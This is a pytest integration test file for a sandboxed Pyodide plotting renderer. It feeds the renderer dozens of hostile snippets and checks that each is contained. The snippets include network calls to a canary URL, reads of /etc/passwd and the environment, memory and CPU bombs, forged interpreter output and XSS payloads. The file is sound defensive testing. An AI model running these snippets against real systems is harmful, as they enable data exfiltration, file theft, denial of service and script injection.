"""Hostile code against the real renderer: every attack ends as expected, nothing escapes.

For each snippet: the job ends with the expected status and error, the
canary on loopback hears nothing, and the very next ordinary job on the same
(only) renderer succeeds. ``{canary}``, ``{canary_port}`` and ``{broker_port}``
in a snippet are filled in before it is sent.
"""

import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest

from tests.sandbox.conftest import OUTCOMES, renderer_memory_mb

pytestmark = [pytest.mark.integration, pytest.mark.sandbox]

ORDINARY = "import plotly.graph_objects as go\nfig = go.Figure(go.Bar(y=[2, 3, 1]))\nfig.update_layout(title='ordinary')\nfig.show()\n"
SHOW = "\nimport plotly.graph_objects as go\ngo.Figure(go.Bar(y=[1])).show()\n"


def active_markup(svg: str) -> list[str]:
    """Elements and attributes that could run code or fetch something if the SVG were opened."""
    found = []
    for element in ElementTree.fromstring(svg).iter():
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in ("script", "foreignobject", "iframe", "object", "embed"):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1].lower()
            if name.startswith("on"):
                found.append(f"{tag}@{name}")
            if name in ("href", "src") and not value.startswith(("#", "data:image/")):
                found.append(f"{tag}@{name}={value[:60]}")
    return found


@dataclass
class Attack:
    name: str
    code: str
    status: str
    error_type: str | None = None
    message: str | None = None  # a fragment of the error message
    stdout: str | None = None  # a fragment the job's stdout must contain
    timeout_s: float = 3.0
    figures_clean: bool = False  # SVGs must carry no active markup
    extra: dict = field(default_factory=dict)
    request: dict = field(default_factory=dict)  # more fields of the job request (formats, ...)
    within_s: float | None = None  # the job must be answered this fast (it fails at once)
    max_chars: dict = field(default_factory=dict)  # result field ("stdout", "message", "warnings") -> at most


ATTACKS = [
    # --- network, one channel at a time -----------------------------------
    Attack("net_js_fetch", "import js\njs.fetch('{canary}/fetch')", "failed", "TypeError"),
    Attack(
        "net_pyodide_open_url",
        "from pyodide.http import open_url\nopen_url('{canary}/xhr')",
        "failed",
        "AttributeError",
    ),
    Attack(
        "net_pyodide_pyfetch",
        "import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch('{canary}/pyfetch'))",
        "failed",
    ),
    Attack(
        "net_sync_xhr",
        "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', '{canary}/xhr', False)\nx.send()",
        "failed",
        "AttributeError",
    ),
    Attack(
        "net_websocket", "import js\njs.WebSocket.new('ws://127.0.0.1:{canary_port}/ws')", "failed", "AttributeError"
    ),
    Attack("net_eventsource", "import js\njs.EventSource.new('{canary}/events')", "failed", "AttributeError"),
    Attack("net_send_beacon", "import js\njs.navigator.sendBeacon('{canary}/beacon', 'data')", "failed", "TypeError"),
    Attack(
        "net_img_element",
        "import js\nimg = js.document.createElement('img')\nimg.src = '{canary}/img'",
        "failed",
        "AttributeError",
    ),
    Attack("net_import_scripts", "import js\njs.importScripts('{canary}/s.js')", "failed", "TypeError"),
    Attack("net_nested_worker", "import js\njs.Worker.new('{canary}/w.js')", "failed", "AttributeError"),
    Attack("net_micropip", "import micropip\nmicropip.install('{canary}/x.whl')", "failed", "ModuleNotFoundError"),
    Attack("net_load_package", "import pyodide_js\npyodide_js.loadPackage('{canary}/x.whl')" + SHOW, "done"),
    Attack(
        "net_socket_loopback",
        "import socket\nsocket.create_connection(('127.0.0.1', {canary_port}), timeout=2)",
        "failed",
        "OSError",
    ),
    Attack(
        "net_socket_broker",
        "import socket\nsocket.create_connection(('127.0.0.1', {broker_port}), timeout=2)",
        "failed",
        "OSError",
    ),
    Attack(
        "net_public_address",
        "import urllib.request\nurllib.request.urlopen('http://1.1.1.1/', timeout=2)",
        "failed",
        "URLError",
    ),
    Attack(
        "net_eval_new_code",
        "import js\njs.eval('fetch(\"{canary}/eval\")')",
        "failed",
        "JsException",
        message="Content Security Policy",
    ),
    Attack(
        "net_recover_fetch_from_prototypes",
        "import js\nfound = []\nproto = js.Object.getPrototypeOf(js.self)\nwhile proto:\n"
        "    found += [n for n in js.Object.getOwnPropertyNames(proto) if n in ('fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts')]\n"
        "    proto = js.Object.getPrototypeOf(proto)\nprint('found:', found)" + SHOW,
        "done",
        stdout="found: []",
    ),
    Attack(
        "net_figure_layout_image",
        "import plotly.graph_objects as go\nfig = go.Figure(go.Scatter(y=[1, 2]))\n"
        "fig.add_layout_image(source='{canary}/img.png', x=0, y=1, sizex=1, sizey=1, xref='paper', yref='paper')\nfig.show()",
        "done",
        figures_clean=True,
        extra={"svg_lacks": "127.0.0.1"},
    ),
    # --- time -----------------------------------------------------------------
    Attack("time_busy_loop", "while True:\n    pass", "failed", "TimeoutError", message="was interrupted"),
    Attack(
        "time_loop_swallows_interrupt",
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
        "failed",
        "TimeoutError",
        message="did not stop when interrupted",
    ),
    Attack("time_catastrophic_regex", "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')", "failed", "TimeoutError"),
    Attack("time_c_level_bigint", "x = 10 ** (10 ** 9)", "failed", "TimeoutError"),
    Attack("time_sleep", "import time\ntime.sleep(100)", "failed", "TimeoutError"),
    Attack("time_recursion", "def f(n):\n    return f(n + 1)\nf(0)", "failed", "RecursionError"),
    Attack(
        "time_recursion_limit_raised",
        "import sys\nsys.setrecursionlimit(10 ** 6)\ndef f(n):\n    return f(n + 1)\nf(0)",
        "failed",
    ),
    # --- memory ---------------------------------------------------------------
    Attack(
        "memory_bomb",
        "chunks = []\nwhile True:\n    chunks.append(bytearray(256 * 1024 * 1024))",
        "failed",
        "MemoryError",
        message="out of memory",
        timeout_s=40,
    ),
    # --- numpy and pandas: C code, big buffers, their own I/O ------------------
    # 80 GB: larger than a 32-bit (wasm32) address space can even describe.
    Attack(
        "numpy_huge_allocation",
        "import numpy as np\nnp.ones((10**5, 10**5))",
        "failed",
        "ValueError",
        message="array is too big",
    ),
    Attack(
        "numpy_exhausts_the_heap",
        "import numpy as np\nblocks = [np.ones(2**27) for _ in range(8)]",
        "failed",
        "MemoryError",
        message="Unable to allocate",
        timeout_s=40,
    ),
    Attack(  # up to its cap (PLOTFARM_INTERPRETER_MAX_HEAP_MB, 2 GiB) a job may grow
        "numpy_grow_to_gigabytes",
        "import numpy as np\nblocks = [np.ones(2**27), np.ones(2**26)]\nprint(sum(b.nbytes for b in blocks) // 2**20, 'MiB')"
        + SHOW,
        "done",
        stdout="1536 MiB",
        timeout_s=40,
    ),
    Attack(  # and no further, whatever it does inside (the cap is the WebAssembly memory's own maximum)
        "memory_beyond_the_heap_cap",
        "import numpy as np\nblocks = [np.ones(2**27) for _ in range(3)]",
        "failed",
        "MemoryError",
        timeout_s=40,
    ),
    Attack(
        "memory_cap_raised_from_inside",
        "import pyodide_js, numpy as np\nmemory = pyodide_js._module.wasmMemory\n"
        "print(memory.buffer.byteLength)\nmemory.grow(40000)",
        "failed",
        message="Maximum memory size exceeded",
    ),
    Attack(
        "numpy_long_c_loop",
        "import numpy as np\na = np.ones((3000, 3000))\na @ a @ a @ a",
        "failed",
        "TimeoutError",
        message="did not stop when interrupted",
    ),
    Attack("ctypes_host_library", "import ctypes\nctypes.CDLL('libc.so.6').getpid()", "failed", "OSError"),
    Attack(
        "ctypes_scribble_own_memory",
        "import ctypes\nctypes.memset(ctypes.addressof(ctypes.c_char.from_address(65536)), 0, 512 * 1024 * 1024)",
        "failed",
    ),
    Attack(
        "pandas_read_csv_url", "import pandas as pd\npd.read_csv('{canary}/data.csv')", "failed", message="no network"
    ),
    Attack(
        "pandas_read_json_broker",
        "import pandas as pd\npd.read_json('http://127.0.0.1:{broker_port}/')",
        "failed",
        message="no network",
    ),
    Attack("pandas_read_local_path", "import pandas as pd\npd.read_csv('/etc/passwd')", "failed", "FileNotFoundError"),
    Attack(
        "pandas_read_html_url",
        "import pandas as pd\npd.read_html('{canary}/table.html')",
        "failed",
        "ImportError",
        message="not available in plotfarm",
    ),
    Attack(
        "pandas_storage_options_url",
        "import pandas as pd\npd.read_csv('{canary}/x.csv', storage_options={{'User-Agent': 'x'}})",
        "failed",
    ),
    # --- output ---------------------------------------------------------------
    Attack(  # the first 20 are kept and the result says so (see test_too_many_figures_are_dropped_with_a_warning)
        "output_too_many_figures",
        "import plotly.graph_objects as go\nfor i in range(25):\n    go.Figure(go.Bar(y=[i])).show()",
        "done",
    ),
    Attack(  # showing is cheap beyond the limit, yet an endless loop of it still meets the timeout
        "output_endless_figures",
        "import plotly.graph_objects as go\nfig = go.Figure()\nwhile True:\n    fig.show()",
        "failed",
        "TimeoutError",
    ),
    Attack(
        "output_huge_figure",
        "import plotly.graph_objects as go\ngo.Figure(go.Scatter(y=list(range(1_200_000)))).show()",
        "failed",
        "OutputLimitExceeded",
        message="bytes of JSON",
        timeout_s=40,
    ),
    Attack(
        "output_huge_svg",
        "import random\nimport plotly.graph_objects as go\nn = 120000\n"
        "go.Figure(go.Scatter(x=[random.random() for _ in range(n)], y=[random.random() for _ in range(n)], mode='markers')).show()",
        "failed",
        "OutputLimitExceeded",
        message="bytes of SVG",
        timeout_s=40,
    ),
    Attack(
        "output_stdout_flood",
        "for i in range(100_000):\n    print('x' * 100)" + SHOW,
        "done",
        stdout="[plotfarm: output truncated",
        timeout_s=20,
    ),
    # --- output made outside the job's limits ---------------------------------
    # Text a job makes at run time that is no text (lone surrogates): escaped, never a wedged renderer.
    Attack("output_lone_surrogate_stdout", "print('a' + chr(0xD800) + 'b')" + SHOW, "done", stdout="a\\ud800b"),
    Attack(
        "output_lone_surrogate_error",
        "raise ValueError('bad ' + chr(0xDC00))",
        "failed",
        "ValueError",
        message="bad \\udc00",
    ),
    Attack(
        "output_lone_surrogate_figure",
        "import plotly.graph_objects as go\ngo.Figure(go.Bar(y=[1], name='n' + chr(0xD800)), layout_title_text='t' + chr(0xDFFF)).show()",
        "done",
        request={"formats": ["svg", "json", "html"]},
    ),
    Attack(
        "output_nested_figure",
        "import plotly.graph_objects as go\nmeta = {}\nnode = meta\nfor _ in range(300):\n    node['a'] = {}\n    node = node['a']\n"
        "go.Figure(go.Bar(y=[1]), layout_meta=meta).show()",
        "failed",
        "OutputLimitExceeded",
        message="nested more than",
        request={"formats": ["svg", "json"]},
    ),
    Attack(  # the job lifts its own stdout cap inside its interpreter: the page cuts it anyway
        "output_stdout_cap_lifted",
        "import sys\nsys.stdout.limit = 10**9\nprint('x' * 3_000_000)" + SHOW,
        "done",
        stdout="[plotfarm: output truncated",
        max_chars={"stdout": 70_000},
    ),
    Attack(  # a 100 MB figure once its capture's limits are lifted: refused unread, at once
        "output_figure_caps_lifted",
        "import plotly.io as pio, plotly.graph_objects as go\ncapture = pio.show.__self__\n"
        "capture.max_figure_bytes = capture.max_total_bytes = capture.max_figures = 10**12\n"
        "go.Figure(go.Bar(y=[1]), layout_title_text='x' * 100_000_000).show()",
        "failed",
        "OutputLimitExceeded",
        message="characters of JSON",
        timeout_s=40,
        within_s=40,
    ),
    Attack(
        "output_huge_error_message",
        "raise ValueError('e' * 5_000_000)",
        "failed",
        "ValueError",
        max_chars={"message": 21_000, "traceback": 21_000},
    ),
    Attack(  # the job rewrites what its interpreter answers: malformed JSON
        "output_forged_malformed_answer",
        "import plotfarm_capture\nplotfarm_capture.Job.output = lambda self: '{\"figures\": [1, 2'" + SHOW,
        "failed",
        "InterpreterError",
    ),
    Attack(  # ... or well-formed, with more warnings than any job may carry
        "output_forged_warnings",
        "import plotfarm_capture\nplotfarm_capture.Job.warnings = lambda self: ['w' * 5000] * 1000" + SHOW,
        "done",
        max_chars={"warnings": 50 * 1100},
    ),
    Attack(  # ... or a figure that is not one
        "output_forged_figure",
        'import plotfarm_capture\nplotfarm_capture.Job.output = lambda self: \'{"figures": [[1]], "stdout": "", '
        '"stderr": "", "error": null, "warnings": []}\'' + SHOW,
        "failed",
        "OutputLimitExceeded",
        message="not a JSON object",
    ),
    # --- the host ---------------------------------------------------------------
    Attack("host_read_passwd", "print(open('/etc/passwd').read())", "failed", "FileNotFoundError"),
    Attack(
        "host_listing_and_environment",
        "import os\nprint(sorted(os.listdir('/')))\nprint('amqp' in str(os.environ).lower(), 'PLOTFARM' in str(os.environ))"
        + SHOW,
        "done",
        stdout="['dev', 'home', 'lib', 'proc', 'tmp']\nFalse False",
    ),
    Attack("host_exit_process", "import os\nos._exit(1)", "failed"),
    # --- results are untrusted ----------------------------------------------------
    Attack(
        "xss_title_and_annotation",
        "import plotly.graph_objects as go\nfig = go.Figure(go.Bar(y=[1], hovertext=['<img src=x onerror=alert(1)>']))\n"
        "fig.update_layout(title='<script>alert(1)</script><img src=x onerror=alert(2)>')\n"
        "fig.add_annotation(text='<a href=\"javascript:alert(3)\">click</a> <iframe src=x></iframe>', x=0, y=1)\n"
        "print('<script>alert(4)</script>')\nfig.show()",
        "done",
        figures_clean=True,
    ),
    Attack(
        "xss_forged_post_to_page",
        "import js\nfor run_id in range(1, 50):\n"
        '    js.postMessage(js.JSON.parse(\'{{"type": "result", "runId": \' + str(run_id) + \', "payload": "{{}}"}}\'))'
        + SHOW,
        "done",
    ),
]


def fill(code: str, canary, broker_port: int) -> str:
    return (
        code.replace("{canary}", canary.url)
        .replace("{canary_port}", str(canary.port))
        .replace("{broker_port}", str(broker_port))
        .replace("{{", "{")
        .replace("}}", "}")
    )


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
async def test_attack_is_contained(attack, sandbox_api, sandbox_stack, canary):
    broker_port = urlsplit(sandbox_stack.amqp_url).port or 5672
    hits_before = len(canary.hits)
    started = time.monotonic()
    result = await sandbox_api.render(
        fill(attack.code, canary, broker_port), timeout=120, timeout_s=attack.timeout_s, **attack.request
    )
    seconds = time.monotonic() - started
    error = result.get("error") or {}

    started = time.monotonic()
    ordinary = await sandbox_api.render(ORDINARY, timeout=60)
    next_seconds = time.monotonic() - started
    OUTCOMES.append(
        {
            "name": attack.name,
            "status": result["status"],
            "error_type": error.get("type", ""),
            "seconds": seconds,
            "next_seconds": next_seconds,
            "canary_hits": len(canary.hits) - hits_before,
        }
    )

    assert result["status"] == attack.status, error
    if attack.error_type:
        assert error.get("type") == attack.error_type, error
    if attack.message:
        assert attack.message in error.get("message", ""), error
    if attack.stdout:
        assert attack.stdout in result.get("stdout", ""), result.get("stdout", "")[-500:]
    texts = {
        "stdout": result.get("stdout", ""),
        "message": error.get("message", ""),
        "traceback": error.get("traceback", ""),
    }
    texts["warnings"] = "".join(result.get("warnings") or [])
    for name, most in attack.max_chars.items():
        assert len(texts[name]) <= most, f"{name} is {len(texts[name])} characters"
    if attack.within_s is not None:
        assert seconds < attack.within_s, f"the job took {seconds:.1f} s"
    for figure in result.get("figures", []):
        if attack.figures_clean:
            assert not active_markup(figure["svg"]), figure["svg"][:2000]
        if "svg_lacks" in attack.extra:
            assert attack.extra["svg_lacks"] not in figure["svg"]
    assert len(canary.hits) == hits_before, f"the canary was reached: {canary.hits[hits_before:]}"
    assert ordinary["status"] == "done", ordinary.get("error")
    assert "ordinary" in ordinary["figures"][0]["svg"]
    assert next_seconds < 20, f"the next ordinary job took {next_seconds:.1f} s"


async def test_memory_returns_to_baseline_after_a_memory_bomb(sandbox_api, sandbox_stack):
    await sandbox_api.render(ORDINARY)
    baseline = renderer_memory_mb(sandbox_stack)
    result = await sandbox_api.render(
        "chunks = []\nwhile True:\n    chunks.append(bytearray(256 * 1024 * 1024))", timeout=120, timeout_s=40
    )
    assert result["error"]["type"] == "MemoryError"
    deadline = time.monotonic() + 30
    after = renderer_memory_mb(sandbox_stack)
    while after > baseline + 400 and time.monotonic() < deadline:
        await sandbox_api.render(ORDINARY)
        after = renderer_memory_mb(sandbox_stack)
    print(f"renderer memory: baseline {baseline} MB, after the bomb {after} MB")
    assert after <= baseline + 400, f"renderer memory {after} MB, baseline {baseline} MB"
